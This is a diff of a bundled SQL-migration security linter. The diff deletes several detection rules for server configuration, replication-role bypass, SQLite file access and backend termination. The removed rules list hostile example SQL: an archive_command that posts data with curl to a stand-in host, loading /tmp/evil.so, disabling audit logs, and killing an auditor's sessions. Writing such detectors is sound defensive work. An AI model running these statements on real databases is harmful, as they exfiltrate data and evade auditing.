-        report({ message: `${suffix ? 'Likely: ' : ''}${m[1].toUpperCase()} EVENT ${m[2]} runs \`${m[3].slice(0, 80)}${m[3].length > 80 ? '…' : ''}\` on a schedule in the server (MySQL event scheduler)${suffix}.`, key: 'event' });
-    else if (/^(create|alter)\s+(definer\s*=\s*\S+\s+)?event\s/i.test(t))
-        report({ message: `${suffix ? 'Likely: ' : ''}creates or changes a MySQL scheduled event${suffix}.`, key: 'event' });
-}
-/* harmony default export */ const scheduled_job = (withDynamic(scheduled_job_rule));
-
 ;// CONCATENATED MODULE: ./rules/secret-token.ts
 
 function tokenMessage(h) {
@@ -50409,7 +47758,7 @@ function searchPath(options) {
 function defined(list) {
     return (list ?? []).some((o) => o?.DefElem?.defname === 'security' && o.DefElem.arg?.Boolean?.boolval === true);
 }
-function security_definer_pgCheck(stmt, report) {
+function pgCheck(stmt, report) {
     const f = pgNode(stmt, 'CreateFunctionStmt');
     const a = pgNode(stmt, 'AlterFunctionStmt');
     const opts = f ? f.options : a?.actions;
@@ -50444,7 +47793,7 @@ function definerText(d) {
         return /^current_user$/i.test(r.value) ? undefined : `'${r.value}'`;
     return '?';
 }
-function security_definer_nspCheck(stmt, report) {
+function nspCheck(stmt, report) {
     const ast = stmt.ast;
     if (!ast || ast.type !== 'create')
         return;
@@ -50495,8 +47844,8 @@ const security_definer_rule = {
         },
     },
     check(stmt, { report }) {
-        security_definer_pgCheck(stmt, report);
-        security_definer_nspCheck(stmt, report);
+        pgCheck(stmt, report);
+        nspCheck(stmt, report);
         if (stmt.ast && stmt.ast.type !== 'create' && /^create\s.*\b(definer\s*=|sql\s+security\s+definer\b)/.test(stmt.lexical))
             security_definer_textCheck(stmt, report, '');
     },
@@ -50506,346 +47855,6 @@ const security_definer_rule = {
     lexical: [/\bsecurity\s+definer\b/, /\bdefiner\s*=\s*(?!current_user\b)/],
 };
 /* harmony default export */ const security_definer = (withDynamic(security_definer_rule));
-
-;// CONCATENATED MODULE: ./rules/server-config.ts
-
-
-/**
- * PostgreSQL settings whose change weakens security or auditing, or runs code, wherever they are set
- * (ALTER SYSTEM, ALTER ROLE/DATABASE … SET, a session SET, set_config()). Others set per role or
- * database (timeouts, work_mem) are informative. session_replication_role, role and
- * session_authorization are other rules' (session-replication-role, set-role, role-attributes).
- */
-function pgRisk(param) {
-    const p = param.toLowerCase();
-    if (p === 'search_path')
-        return 'changes which schemas unqualified names resolve to (a hijack of every unqualified function and table)';
-    if (p.startsWith('pgaudit.') || p.startsWith('pgaudit_'))
-        return 'changes what the audit log (pgaudit) records';
-    if (p.startsWith('log_') || p === 'logging_collector' || p === 'debug_print_parse')
-        return 'changes what the server logs (audit trail)';
-    if (p === 'row_security')
-        return 'changes whether row-level security applies';
-    if (p === 'lo_compat_privileges')
-        return 'turns off permission checks on large objects';
-    if (/^(shared|session|local)_preload_libraries$|^dynamic_library_path$|^jit_provider$/.test(p))
-        return 'loads shared libraries (native code) into the server';
-    if (/^(archive|restore|archive_cleanup|recovery_end|ssl_passphrase)_command$|^archive_library$/.test(p))
-        return 'runs a shell command on the database server';
-    if (/^(listen_addresses|hba_file|ident_file|ssl\w*|password_encryption|authentication_timeout|krb_\w+|db_user_namespace)$/.test(p))
-        return 'changes how clients connect or authenticate';
-    if (p === 'default_transaction_read_only' || p === 'transaction_read_only')
-        return 'changes whether sessions can write';
-    if (p === 'allow_system_table_mods' || p === 'ignore_system_indexes' || p === 'zero_damaged_pages' || p === 'fsync' || p === 'full_page_writes' || p === 'wal_level' || p === 'track_commit_timestamp')
-        return 'changes server integrity or replication settings';
-    return undefined;
-}
-/** A custom setting whose name says it holds a secret (`app.jwt_secret`, `app.settings.service_key`). */
-const SECRET_NAME = /(secret|passw(or)?d|passwd|token|api_?key|private_?key|service_?key|anon_?key|jwt|credential)/i;
-const OTHER_RULES = new Set(['session_replication_role', 'role', 'session_authorization']);
-function argText(args) {
-    return (args ?? [])
-        .map((x) => {
-        const c = x?.A_Const;
-        if (!c)
-            return x?.TypeCast ? (constStr(x.TypeCast.arg) ?? '?') : '?';
-        if (c.sval)
-            return c.sval.sval ?? '';
-        if (c.ival)
-            return String(c.ival.ival ?? 0);
-        if (c.fval)
-            return String(c.fval.fval);
-        if (c.boolval)
-            return String(c.boolval.boolval ?? false);
-        return '?';
-    })
-        .join(', ');
-}
-function shown(v) {
-    return v.length > 60 ? v.slice(0, 60) + '…' : v;
-}
-/** A VariableSetStmt (the `SET …` part of ALTER SYSTEM / ALTER ROLE / ALTER DATABASE, or a session SET). */
-function describeSet(stmt, s, where, target, report) {
-    const name = String(s?.name ?? '').toLowerCase();
-    if (!name || OTHER_RULES.has(name))
-        return;
-    if (where === 'role' && /^(session|local)_preload_libraries$/.test(name))
-        return; // role-attributes reports it
-    const reset = s.kind === 'VAR_RESET' || s.kind === 'VAR_SET_DEFAULT' || s.kind === 'VAR_RESET_ALL';
-    const value = s.kind === 'VAR_SET_VALUE' ? argText(s.args) : s.kind === 'VAR_SET_CURRENT' ? 'FROM CURRENT' : '';
-    const secretish = SECRET_NAME.test(name) && s.kind === 'VAR_SET_VALUE';
-    const secrets = secretish ? (s.args ?? []).map((x) => constStr(x) ?? constStr(x?.TypeCast?.arg)).filter((x) => typeof x === 'string' && x.length > 0) : [];
-    const setText = s.kind === 'VAR_RESET_ALL' ? 'RESET ALL' : reset ? `RESET ${name}` : `${name} = ${secretish ? "'…'" : `'${shown(value)}'`}`;
-    const risk = name === '' ? undefined : s.kind === 'VAR_RESET_ALL' ? 'resets every setting, security ones included' : pgRisk(name);
-    const scope = where === 'system' ? 'for the whole server (ALTER SYSTEM, written to postgresql.auto.conf)' : where === 'role' ? `for every future session of ${target}` : where === 'database' ? `for every future session in database ${target}` : `for this session${s.is_local ? ' (LOCAL: this transaction)' : ''}`;
-    const why = [];
-    if (risk)
-        why.push(risk);
-    if (secrets.length)
-        why.push('the value is a secret stored in the catalog (readable by every role that can read pg_db_role_setting / current_setting)');
-    let severity;
-    if (where === 'system')
-        severity = 'error'; // server-wide, survives restarts; never a migration's business
-    else if (where === 'session') {
-        // A session SET of search_path and the like is routine; only audit and security switches matter.
-        if (!risk || name === 'search_path' || reset)
-            return;
-        severity = 'error';
-    }
-    else
-        severity = risk || secrets.length ? 'error' : 'warning';
-    if (reset && where !== 'system' && severity === 'error' && !secrets.length)
-        severity = 'warning'; // RESET returns to the server default
-    report({
-        message: `Sets ${setText} ${scope}${why.length ? `: ${why.join('; ')}` : ''}${inside(stmt)}.`,
-        severity,
-        secrets: secrets.length ? secrets : undefined,
-        offset: nodeOffset(stmt, s.location),
-        key: `${where}:${name}`,
-    });
-}
-function server_config_pgCheck(stmt, report) {
-    const pg = stmt.pg;
-    if (!pg)
-        return;
-    if (pg.AlterSystemStmt) {
-        describeSet(stmt, pg.AlterSystemStmt.setstmt, 'system', 'server', report);
-        return;
-    }
-    if (pg.AlterRoleSetStmt) {
-        const a = pg.AlterRoleSetStmt;
-        const who = a.role ? roleName(a.role) : 'ALL roles';
-        describeSet(stmt, a.setstmt, 'role', who + (a.database ? ` in database ${a.database}` : ''), report);
-        return;
-    }
-    if (pg.AlterDatabaseSetStmt) {
-        describeSet(stmt, pg.AlterDatabaseSetStmt.setstmt, 'database', pg.AlterDatabaseSetStmt.dbname ?? '?', report);
-        return;
-    }
-    ast_walk(pg, (k, v) => {
-        if (k === 'VariableSetStmt')
-            describeSet(stmt, v, 'session', '', report);
-        // A function's own `SET x = …` clause applies only while it runs: security-definer's concern.
-        if (k === 'CreateFunctionStmt' || k === 'AlterFunctionStmt')
-            return false;
-    });
-    for (const c of pgFunctionCalls(pg)) {
-        if (c.base !== 'set_config')
-            continue;
-        const param = constStr(c.node.args?.[0]);
-        if (param === undefined)
-            continue; // computed name: dynamic SQL territory
-        const p = param.toLowerCase();
-        if (OTHER_RULES.has(p))
-            continue;
-        const risk = pgRisk(p);
-        const val = constStr(c.node.args?.[1]);
-        const secret = SECRET_NAME.test(p) && val ? val : undefined;
-        if (!risk && !secret)
-            continue;
-        if (p === 'search_path')
-            continue; // routine at session level
-        report({
-            message: `set_config('${p}', ${secret ? "'…'" : val !== undefined ? `'${shown(val)}'` : '…'}) for this session${risk ? `: ${risk}` : ''}${secret ? ': the value is a secret' : ''}${inside(stmt)}.`,
-            severity: secret && !risk ? 'warning' : 'error',
-            secrets: secret ? [secret] : undefined,
-            offset: nodeOffset(stmt, c.location),
-            key: `set_config:${p}`,
-        });
-    }
-}
-/** MySQL/MariaDB system variables whose session value matters for auditing or data integrity. */
-const MYSQL_SESSION = {
-    sql_log_bin: { what: 'controls whether statements reach the binary log (replicas and point-in-time recovery stop seeing them; audit evasion)', severity: 'error' },
-    sql_log_off: { what: 'controls whether statements reach the general query log (audit evasion)', severity: 'error' },
-    general_log: { what: 'turns the general query log on or off (audit trail)', severity: 'error' },
-    general_log_file: { what: 'moves the general query log (the server writes that file)', severity: 'error' },
-    slow_query_log_file: { what: 'moves the slow query log (the server writes that file)', severity: 'error' },
-    log_bin_trust_function_creators: { what: 'lets accounts without SUPER create functions that break binary-log safety', severity: 'error' },
-    sql_mode: { what: 'changes SQL mode (strictness, zero dates, NO_BACKSLASH_ESCAPES) for this session', severity: 'warning' },
-    sql_safe_updates: { what: 'changes whether UPDATE/DELETE without a key are refused', severity: 'warning' },
-};
-function mysqlVar(left) {
-    if (!left || left.type !== 'var')
-        return undefined;
-    const prefix = String(left.prefix ?? '');
-    if (prefix === '@')
-        return { name: String(left.name), scope: 'user' };
-    const members = left.members ?? [];
-    const head = String(left.name ?? '').toLowerCase();
-    if (prefix === '@@' && members.length && /^(global|persist|persist_only|session|local)$/.test(head)) {
-        const s = head === 'global' ? 'global' : head.startsWith('persist') ? 'persist' : 'session';
-        return { name: members.join('.').toLowerCase(), scope: s };
-    }
-    return { name: [left.name, ...members].join('.').toLowerCase(), scope: 'session' };
-}
-function mysqlCheck(stmt, report) {
-    const ast = stmt.ast;
-    if (ast?.type !== 'set')
-        return;
-    const kw = String(ast.keyword ?? '').toLowerCase();
-    for (const e of ast.expr ?? []) {
-        const v = mysqlVar(e?.left);
-        if (!v || v.scope === 'user')
-            continue;
-        // `SET GLOBAL a = 1, b = 2`: the keyword applies to the first variable; MySQL carries it on.
-        const scope = v.scope !== 'session' ? v.scope : kw === 'global' ? 'global' : /^persist/.test(kw) ? 'persist' : 'session';
-        const right = e.right;
-        const value = right?.value !== undefined && typeof right.value !== 'object' ? `'${shown(String(right.value))}'` : right?.type === 'var' ? `@${right.prefix === '@@' ? '@' : ''}${right.name}` : '…';
-        const known = MYSQL_SESSION[v.name];
-        if (scope === 'global' || scope === 'persist') {
-            const persist = scope === 'persist' ? ' and writes it to mysqld-auto.cnf (survives restarts)' : '';
-            report({
-                message: `SET ${scope.toUpperCase()} ${v.name} = ${value} changes the server-wide setting for every connection${persist}${known ? `: ${known.what}` : ''}.`,
-                severity: 'error',
-                key: `mysql:${v.name}`,
-            });
-        }
-        else if (known) {
-            // `SET sql_mode = @OLD_SQL_MODE` (mysqldump's restore of a saved value) puts back what was there.
-            if (right?.type === 'var' && right.prefix === '@')
-                continue;
-            report({ message: `SET ${v.name} = ${value}: ${known.what}.`, severity: known.severity, key: `mysql:${v.name}` });
-        }
-    }
-}
-function server_config_textCheck(stmt, report) {
-    const t = folded(stmt);
-    let m = /^alter\s+system\s+(set|reset)\s+([\w.]+)/i.exec(t);
-    if (m) {
-        report({ message: `Likely: ALTER SYSTEM ${m[1].toUpperCase()} ${m[2]} changes the server-wide configuration${UNPARSED}.`, key: 'system' });
-        return;
-    }
-    m = /^set\s+(global|persist|persist_only)\s+([\w.]+)/i.exec(t) ?? /^set\s+@@(global|persist|persist_only)\.([\w.]+)/i.exec(t);
-    if (m) {
-        report({ message: `Likely: SET ${m[1].toUpperCase()} ${m[2]} changes a server-wide setting${UNPARSED}.`, key: 'mysql' });
-        return;
-    }
-    m = /^set\s+(?:session\s+)?(sql_log_bin|sql_log_off|general_log)\s*(=|to)/i.exec(t);
-    if (m)
-        report({ message: `Likely: SET ${m[1]}: ${MYSQL_SESSION[m[1].toLowerCase()].what}${UNPARSED}.`, key: 'mysql' });
-}
-const server_config_rule = {
-    meta: {
-        id: 'server-config',
-        category: 'privilege',
-        severity: 'error',
-        summary: 'Changes server, role or database configuration: ALTER SYSTEM, ALTER ROLE/DATABASE … SET, audit-log switches (pgaudit, log_*, sql_log_bin), MySQL SET GLOBAL/PERSIST',
-        rationale: 'ALTER SYSTEM rewrites the server configuration (archive_command runs shell commands, shared_preload_libraries loads native code); ' +
-            'ALTER ROLE/DATABASE … SET changes every later session: search_path hijacks unqualified names, pgaudit.log = none and log_statement = none ' +
-            'switch off the audit trail, row_security off disables row-level security; a secret stored as a setting (app.jwt_secret) is a credential ' +
-            'in the catalog and in the repository. MySQL SET GLOBAL/PERSIST changes the server for every connection; SET sql_log_bin = 0 hides ' +
-            'statements from replicas and point-in-time recovery, general_log/sql_log_off from the query log. Benign per-role settings ' +
-            '(timeouts, work_mem) and session-level sql_mode are warnings.',
-        fix: 'Leave server and audit configuration to operators (configuration management), keep secrets out of settings, and get any needed change approved by a security reviewer.',
-        examples: {
-            bad: [
-                { sql: "ALTER SYSTEM SET archive_command = 'curl -d @%p https://x.example';" },
-                { sql: 'ALTER ROLE app SET search_path = evil, public;' },
-                { sql: "ALTER DATABASE app SET pgaudit.log = 'none';" },
-                { sql: "ALTER DATABASE postgres SET app.jwt_secret = 'super-secret-jwt-token-with-32-chars';" },
-                { sql: "SET pgaudit.log = 'none';" },
-                { sql: "DO $$ BEGIN EXECUTE 'ALTER SYSTEM SET log_statement = ''none'''; END $$;" },
-                { sql: "SELECT set_config('log_statement', 'none', false);" },
-                { sql: "SET GLOBAL general_log = 'OFF';", dialect: 'mysql' },
-                { sql: 'SET SQL_LOG_BIN = 0;', dialect: 'mysql' },
-                { sql: "SET PERSIST sql_mode = '';", dialect: 'mysql' },
-                { sql: "SET @@global.sql_mode = '';", dialect: 'mariadb' },
-            ],
-            good: [
-                { sql: 'SET search_path = public;' },
-                { sql: "SET statement_timeout = '5s';" },
-                { sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = pg_catalog AS 'select 1';" },
-                { sql: 'SET @OLD_SQL_MODE = @@SQL_MODE;', dialect: 'mysql' },
-                { sql: 'SET SQL_MODE = @OLD_SQL_MODE;', dialect: 'mysql' },
-                { sql: 'SET NAMES utf8mb4;', dialect: 'mysql' },
-                { sql: "SELECT set_config('search_path', '', false);" },
-            ],
-        },
-    },
-    check(stmt, { report }) {
-        server_config_pgCheck(stmt, report);
-        mysqlCheck(stmt, report);
-    },
-    unparsed(stmt, { report }) {
-        server_config_textCheck(stmt, report);
-    },
-    lexical: [/^alter\s+system\s/, /\bset\s+(global|persist|persist_only)\s/, /\bset\s+@@(global|persist)/, /\bset\s+(session\s+)?(sql_log_bin|sql_log_off|general_log)\b/],
-};
-/* harmony default export */ const server_config = (withDynamic(server_config_rule));
-
-;// CONCATENATED MODULE: ./rules/session-replication-role.ts
-
-
-const WHAT = 'ordinary triggers (audit, integrity, replication) and foreign-key checks stop firing';
-const session_replication_role_rule = {
-    meta: {
-        id: 'session-replication-role',
-        category: 'privilege',
-        severity: 'error',
-        summary: 'Sets session_replication_role = replica (or local): triggers and foreign-key checks stop firing',
-        rationale: 'With session_replication_role = replica, PostgreSQL skips every trigger not marked ENABLE REPLICA/ALWAYS, and foreign keys are ' +
-            'enforced by triggers: audit triggers record nothing and rows that break referential integrity are accepted. A migration that sets it ' +
-            '(SET, SET LOCAL, set_config(), ALTER ROLE/DATABASE … SET) silently bypasses the database’s own safeguards. Setting it back to origin ' +
-            '(or RESET) is not reported.',
-        fix: 'Do the data change with triggers and constraints in place; if they must be bypassed, do it as a reviewed operational step and get it approved.',
-        examples: {
-            bad: [
-                { sql: 'SET session_replication_role = replica;\nDELETE FROM orders WHERE id = 1;' },
-                { sql: "SET LOCAL session_replication_role TO 'replica';" },
-                { sql: "SELECT set_config('session_replication_role', 'replica', true);" },
-                { sql: "ALTER ROLE app SET session_replication_role = 'replica';" },
-                { sql: "DO $$ BEGIN SET session_replication_role = replica; UPDATE t SET a = 1 WHERE id = 2; END $$;" },
-            ],
-            good: [
-                { sql: 'SET session_replication_role = DEFAULT;' },
-                { sql: "SET session_replication_role = 'origin';" },
-                { sql: 'RESET session_replication_role;' },
-            ],
-        },
-    },
-    check(stmt, { report }) {
-        const pg = stmt.pg;
-        if (!pg)
-            return;
-        const one = (s, scope) => {
-            if (String(s?.name ?? '').toLowerCase() !== 'session_replication_role' || s.kind !== 'VAR_SET_VALUE')
-                return;
-            const v = (constStr(s.args?.[0]) ?? '').toLowerCase();
-            if (v === 'origin')
-                return;
-            report({ message: `Sets session_replication_role = ${v || '?'} ${scope}: ${WHAT}${inside(stmt)}.`, offset: nodeOffset(stmt, s.location), key: scope });
-        };
-        if (pg.AlterRoleSetStmt)
-            one(pg.AlterRoleSetStmt.setstmt, `for every future session of ${pg.AlterRoleSetStmt.role ? roleName(pg.AlterRoleSetStmt.role) : 'ALL roles'}`);
-        else if (pg.AlterDatabaseSetStmt)
-            one(pg.AlterDatabaseSetStmt.setstmt, `for every future session in database ${pg.AlterDatabaseSetStmt.dbname}`);
-        else if (pg.AlterSystemStmt)
-            one(pg.AlterSystemStmt.setstmt, 'for the whole server');
-        else
-            ast_walk(pg, (k, v) => {
-                if (k === 'VariableSetStmt')
-                    one(v, v.is_local ? 'for this transaction (SET LOCAL)' : 'for this session');
-                if (k === 'CreateFunctionStmt')
-                    return false;
-            });
-        for (const c of pgFunctionCalls(pg)) {
-            if (c.base !== 'set_config' || constStr(c.node.args?.[0])?.toLowerCase() !== 'session_replication_role')
-                continue;
-            const v = constStr(c.node.args?.[1])?.toLowerCase();
-            if (v === 'origin')
-                continue;
-            report({ message: `set_config('session_replication_role', ${v !== undefined ? `'${v}'` : '…'}): ${WHAT}${inside(stmt)}.`, offset: nodeOffset(stmt, c.location), key: 'set_config' });
-        }
-    },
-    unparsed(stmt, { report }) {
-        const m = /\bsession_replication_role\s*(?:=|to)\s*'?(\w+)/i.exec(folded(stmt));
-        if (m && !/^(origin|default)$/i.test(m[1]))
-            report({ message: `Likely: sets session_replication_role = ${m[1]}: ${WHAT}${UNPARSED}.` });
-    },
-    lexical: [/\bsession_replication_role\s*(=|to)\s*'?(replica|local)\b/, /\bset_config\s*\(\s*'session_replication_role'\s*,\s*'(replica|local)'/],
-};
-/* harmony default export */ const session_replication_role = (withDynamic(session_replication_role_rule));
 
 ;// CONCATENATED MODULE: ./rules/set-not-null.ts
 
@@ -50982,91 +47991,6 @@ const set_role_rule = {
 };
 /* harmony default export */ const set_role = (withDynamic(set_role_rule));
 
-;// CONCATENATED MODULE: ./rules/sqlite-file-access.ts
-
-
-/** Every object of a node-sql-parser AST (arrays included). */
-function sqlite_file_access_each(node, fn) {
-    if (Array.isArray(node))
-        for (const n of node)
-            sqlite_file_access_each(n, fn);
-    else if (node && typeof node === 'object') {
-        fn(node);
-        for (const v of Object.values(node))
-            if (v && typeof v === 'object')
-                sqlite_file_access_each(v, fn);
-    }
-}
-function sqlite_file_access_lit(e) {
-    const v = e?.value;
-    return typeof v === 'string' ? `'${v.length > 80 ? v.slice(0, 80) + '…' : v}'` : '…';
-}
-const LOAD = 'loads a shared library (native code) into the process applying the migration';
-function sqlite_file_access_textCheck(stmt, report, suffix) {
-    const t = folded(stmt);
-    let m = /^attach\s+(?:database\s+)?('[^']*'|"[^"]*"|\S+)\s+as\s+(\S+?);?$/i.exec(t);
-    if (m)
-        report({ message: `${suffix ? 'Likely: ' : ''}ATTACH DATABASE ${m[1]} AS ${m[2]} opens another database file next to this one (reads and writes outside the migrated database)${suffix}.`, key: 'attach' });
-    m = /^vacuum\s+(?:\S+\s+)?into\s+('[^']*'|\S+)/i.exec(t);
-    if (m)
-        report({ message: `${suffix ? 'Likely: ' : ''}VACUUM INTO ${m[1]} writes a copy of the whole database to a file${suffix}.`, key: 'vacuum' });
-    m = /\bload_extension\s*\(\s*('[^']*')?/i.exec(t);
-    if (m)
-        report({ message: `${suffix ? 'Likely: ' : ''}load_extension(${m[1] ?? '…'}) ${LOAD}${suffix}.`, key: 'load_extension' });
-}
-const sqlite_file_access_rule = {
-    meta: {
-        id: 'sqlite-file-access',
-        category: 'execution',
-        severity: 'error',
-        summary: 'SQLite reaching outside the database file: ATTACH DATABASE, load_extension(), VACUUM INTO',
-        rationale: 'ATTACH DATABASE opens (or creates) any file the process can reach and lets the statements that follow read and write it; ' +
-            'VACUUM INTO writes a full copy of the database to a file; load_extension() loads a shared library, i.e. runs native code in the ' +
-            'application or migration tool. None of them belong in a schema migration.',
-        fix: 'Remove the statement; copy or import data with the application or a reviewed operational step.',
-        examples: {
-            bad: [
-                { sql: "ATTACH DATABASE '/var/lib/app/other.db' AS other;", dialect: 'sqlite' },
-                { sql: "SELECT load_extension('/tmp/evil.so');", dialect: 'sqlite' },
-                { sql: "VACUUM INTO '/tmp/copy.db';", dialect: 'sqlite' },
-                { sql: "CREATE TRIGGER t AFTER INSERT ON a BEGIN SELECT load_extension('x'); END;", dialect: 'sqlite' },
-            ],
-            good: [
-                { sql: 'CREATE TABLE attachments (id integer primary key, path text);', dialect: 'sqlite' },
-                { sql: 'VACUUM;', dialect: 'sqlite' },
-                { sql: "INSERT INTO docs (body) VALUES ('load_extension(x) is disabled');", dialect: 'sqlite' },
-            ],
-        },
-    },
-    check(stmt, { report }) {
-        const ast = stmt.ast;
-        if (ast) {
-            sqlite_file_access_each(ast, (v) => {
-                if (v.type === 'attach')
-                    report({ message: `ATTACH DATABASE ${sqlite_file_access_lit(v.expr)} AS ${v.schema ?? '?'} opens another database file next to this one (reads and writes outside the migrated database).`, key: 'attach' });
-                if (v.type === 'function') {
-                    const name = (v.name?.name ?? []).map((n) => n?.value).join('.');
-                    if (/^load_extension$/i.test(name))
-                        report({ message: `load_extension(${sqlite_file_access_lit(v.args?.value?.[0])}) ${LOAD}.`, key: 'load_extension' });
-                }
-            });
-        }
-        else if (stmt.pg && stmt.dialect === 'sqlite') {
-            for (const c of pgFunctionCalls(stmt.pg))
-                if (c.base === 'load_extension')
-                    report({ message: `load_extension() ${LOAD}.`, key: 'load_extension' });
-        }
-        if (stmt.parsed && stmt.dialect === 'sqlite' && /^vacuum\s.*\binto\b/.test(stmt.lexical))
-            sqlite_file_access_textCheck(stmt, report, '');
-    },
-    unparsed(stmt, { report }) {
-        if (stmt.dialect === 'sqlite' || /^(attach|vacuum)\b/.test(stmt.lexical) || /load_extension/.test(stmt.lexical))
-            sqlite_file_access_textCheck(stmt, report, UNPARSED);
-    },
-    lexical: [/^attach\s+(database\s+)?\S/, /\bload_extension\s*\(/, /^vacuum\s+(\S+\s+)?into\s/],
-};
-/* harmony default export */ const sqlite_file_access = (withDynamic(sqlite_file_access_rule));
-
 ;// CONCATENATED MODULE: ./rules/templated-sql.ts
 /** Reported by extract when template placeholders were neutralized before parsing. */
 const templated_sql_rule = {
@@ -51085,55 +48009,6 @@ const templated_sql_rule = {
     },
 };
 /* harmony default export */ const templated_sql = (templated_sql_rule);
-
-;// CONCATENATED MODULE: ./rules/terminate-backend.ts
-
-
-const terminate_backend_WHAT = {
-    pg_terminate_backend: 'ends other sessions (their open transactions roll back)',
-    pg_cancel_backend: 'cancels queries of other sessions',
-    pg_reload_conf: 'reloads the server configuration (applies edited postgresql.conf / ALTER SYSTEM settings)',
-    pg_rotate_logfile: 'rotates the server log',
-    pg_promote: 'promotes a standby server to primary',
-    pg_switch_wal: 'forces a WAL switch',
-    pg_drop_replication_slot: 'drops a replication slot (a replica or CDC consumer loses its place)',
-    pg_replication_origin_advance: 'moves a replication origin (changes are skipped or replayed)',
-    pg_replication_slot_advance: 'moves a replication slot forward (its consumer skips changes)',
-};
-const terminate_backend_rule = {
-    meta: {
-        id: 'terminate-backend',
-        category: 'privilege',
-        severity: 'error',
-        summary: 'Acts on other sessions or the running server: pg_terminate_backend, pg_cancel_backend, pg_reload_conf, pg_drop_replication_slot, …',
-        rationale: 'pg_terminate_backend and pg_cancel_backend kill or cancel other sessions (the application’s, a replication worker’s, an auditor’s); ' +
-            'pg_reload_conf applies configuration changes; replication-slot functions make replicas and change-data-capture consumers lose or skip data. ' +
-            'None of them change the schema: in a migration they are an outage or an attack on other users of the server.',
-        fix: 'Remove the call; let operators end sessions or manage replication, or get the step approved.',
-        examples: {
-            bad: [
-                { sql: "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'auditor';" },
-                { sql: 'SELECT pg_cancel_backend(12345);' },
-                { sql: 'DO $$ BEGIN PERFORM pg_terminate_backend(pid) FROM pg_stat_activity; END $$;' },
-                { sql: 'SELECT pg_reload_conf();' },
-            ],
-            good: [{ sql: 'SELECT pid FROM pg_stat_activity;' }, { sql: "SELECT 'pg_terminate_backend';" }],
-        },
-    },
-    check(stmt, { report }) {
-        if (!stmt.pg)
-            return;
-        for (const c of pgFunctionCalls(stmt.pg)) {
-            if (c.name.includes('.') && !c.name.startsWith('pg_catalog.'))
-                continue;
-            const what = Object.prototype.hasOwnProperty.call(terminate_backend_WHAT, c.base) ? terminate_backend_WHAT[c.base] : undefined;
-            if (what)
-                report({ message: `Calls ${c.base}(): ${what}${inside(stmt)}.`, offset: nodeOffset(stmt, c.location), key: c.base });
-        }
-    },
-    lexical: [new RegExp(`\\b(${Object.keys(terminate_backend_WHAT).join('|')})\\s*\\(`)],
-};
-/* harmony default export */ const terminate_backend = (withDynamic(terminate_backend_rule));
 
 ;// CONCATENATED MODULE: ./rules/truncate.ts
 
@@ -51371,22 +48246,11 @@ const workflow_changed_rule = {
 
 
 
-
-
-
-
-
-
-
-
-
-
 const rules_rules = [
     add_column_not_null_no_default,
     alembic_empty_downgrade,
     alembic_revision_graph,
     alter_column_type,
-    catalog_write,
     config_credential,
     connection_string_password,
     constraint_not_valid,
@@ -51396,7 +48260,6 @@ const rules_rules = [
     default_privileges,
     delete_without_where,
     django_run_python,
-    django_superuser,
     drop_cascade,
     drop_column,
     drop_constraint,
@@ -51409,13 +48272,10 @@ const rules_rules = [
     drop_trigger,
     drop_view,
     dynamic_sql,
-    event_trigger,
     gate_config_changed,
     grant_role,
     grant,
-    guard_function_replaced,
     hardcoded_password,
-    logical_replication,
     migration_modified,
     migration_removed,
     migration_renamed,
@@ -51429,17 +48289,12 @@ const rules_rules = [
     rename_table,
     rls_disabled,
     role_attributes,
-    scheduled_job,
     secret_token,
     security_definer,
-    server_config,
     server_file_access,
-    session_replication_role,
     set_not_null,
     set_role,
-    sqlite_file_access,
     templated_sql,
-    terminate_backend,
     truncate,
     untrusted_language,
     update_without_where,
@@ -51553,31 +48408,7 @@ function toJson(result) {
     return JSON.stringify(result, null, 2) + '\n';
 }
 
-;// CONCATENATED MODULE: ./src/links.ts
-// Where a finding's rule is documented: one place for every output (text, SARIF, Markdown).
-const REPO_URL = 'https://github.com/migration-gate/migration-gate';
-/** The rule's documentation page (docs/rules/<id>.md, generated from the rule's meta). */
-function ruleUrl(id) {
-    return `${REPO_URL}/blob/main/docs/rules/${encodeURIComponent(id)}.md`;
-}
-
 ;// CONCATENATED MODULE: ./src/report/markdown.ts
-// Markdown for people (CLI --format markdown, PR comments, job summary). Everything that comes
-// from the PR (paths, SQL, messages, logins) is untrusted and goes through one of the helpers
-// below before it reaches Markdown:
-//   escapeMd   prose and table cells: every ASCII punctuation character backslash-escaped (no
-//              HTML, no links, no emphasis, no entities, no table breakout), line breaks folded;
-//   inlineCode a code span that cannot be closed early (fence longer than any backtick run);
-//   fence      a fenced block that cannot be closed early (same rule, at least 3 backticks).
-// All three also defuse what GitHub links AFTER Markdown rendering, where escaping does not help:
-// `@user` / `@org/team` mentions (they notify people), `#123` / `GH-123` issue references (they
-// cross-post to other issues), bare `https://` / `www.` autolinks and e-mail autolinks, by putting a
-// zero-width space (U+200B) after the trigger character; and they replace control characters and
-// bidirectional overrides (Trojan Source) with U+FFFD. `<!--` never survives in any form, so PR text
-// cannot forge the hidden markers (src/decide: SUMMARY_MARKER, inlineMarker) that find our comments.
-// Hand-written on purpose: Markdown libraries render or parse Markdown; none escapes for GitHub's
-// post-processing (mentions, references, autolinks), which is the part that matters here.
-
 const ZWSP = '\u200b';
 // C0/C1 controls except tab and line breaks, bidi embeddings/overrides/isolates and marks.
 // eslint-disable-next-line no-control-regex
@@ -51607,21 +48438,6 @@ function defuse(s) {
 /** Escape untrusted text for inline Markdown or a table cell: one line, inert. */
 function escapeMd(s) {
     return defuse(stripControls(String(s)).replace(/\s+/g, ' ')).replace(/[!-/:-@[-`{-~]/g, '\\$&');
-}
-/**
- * Our own text (rule meta: fix hints, summaries), written with `code` spans: the spans render as
- * code and the rest is escaped like any text (escaping keeps stray Markdown and @mentions inert;
- * the backticks are ours, so they are not shown literally).
- */
-function trustedMd(s) {
-    return String(s)
-        .split(/(`[^`]+`)/)
-        .map((part, i) => (i % 2 === 1 ? inlineCode(part.slice(1, -1), { table: false }) : part ? escapeMd(part) : ''))
-        .join('');
-}
-/** The rule id as inline code linking to its documentation page. */
-function ruleLink(id, opts = {}) {
-    return `[${inlineCode(id, opts)}](${ruleUrl(id)})`;
 }
 /** Longest run of backticks in s. */
 function longestBacktickRun(s) {
@@ -51665,7 +48481,7 @@ function findingsTable(findings) {
     const rows = ['| File | Line | Rule | Severity | Message |', '| --- | ---: | --- | --- | --- |'];
     for (const f of findings) {
         const flags = [f.gating ? '**gating**' : '', f.down ? 'down' : ''].filter(Boolean).join(', ');
